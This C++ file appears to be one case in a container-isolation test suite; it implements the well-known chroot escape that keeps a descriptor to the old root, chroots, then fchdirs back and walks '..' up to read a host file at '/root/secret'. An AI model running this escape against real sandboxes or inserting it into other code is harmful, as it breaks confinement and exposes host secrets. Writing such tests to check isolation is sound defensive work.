// SPDX-License-Identifier: MIT
// Leaves the chroot by a directory that was open before a second one: fchdir in
// chdir(2).
// It has worked if the container has read a file of the host.
#include "tests/attacks/rig/attack.hpp"

namespace attacks::saved_directory {

void attempt(const Words&) {
  const std::string below = make_directory("below");
  const int old_root = try_open("/", O_DIRECTORY);
  try_to(chroot(below.c_str()), "chroot", below);
  try_to(chdir("/"), "chdir", "/");
  try_to(fchdir(old_root), "fchdir", "to the / of before");
  read_secret("../../../../../../root/secret");
}

const Entry kEntry({
    .name = "saved-directory",
    .title = "leave the chroot by a saved directory fd",
    .open = "a descriptor stays good over a chroot(2). After a second one, "
            "fchdir to the old / is outside of the new one, and \"..\" goes up "
            "from there to the host's: chroot(2)",
    .attempt = attempt,
});

}  // namespace attacks::saved_directory
